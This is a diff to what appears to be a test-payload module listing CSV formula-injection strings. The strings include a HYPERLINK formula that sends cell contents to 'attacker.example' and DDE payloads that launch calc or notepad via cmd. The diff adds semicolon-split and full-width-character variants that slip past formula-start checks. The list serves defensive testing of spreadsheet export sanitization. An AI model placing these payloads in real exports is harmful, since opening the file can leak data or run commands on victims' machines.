@@ -29,6 +29,8 @@ export const TRAVERSAL_FRAGMENTS = [
 export const CSV_FORMULAS = [
   '=1+1', '=HYPERLINK("http://attacker.example/?q="&A1,"Click")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
   '\t=1+1', '\r=1+1', '=cmd|\' /C notepad\'!\'A1\'',
+  // issue 17: a ';' splits an unquoted cell in ';'-separated locales; full-width formula starts are read as ASCII
+  'x;=cmd|\' /C calc\'!A0', 'a;+SUM(1,2)', '\uFF1D1+1', '\uFF0BSUM(1,2)', '\uFF0D2+3', '\uFF20SUM(1+1)',
 ];
 
 /** Unicode edge cases: lone surrogates, bidi overrides, zero-width, NUL and other controls, noncharacters, combining marks. */
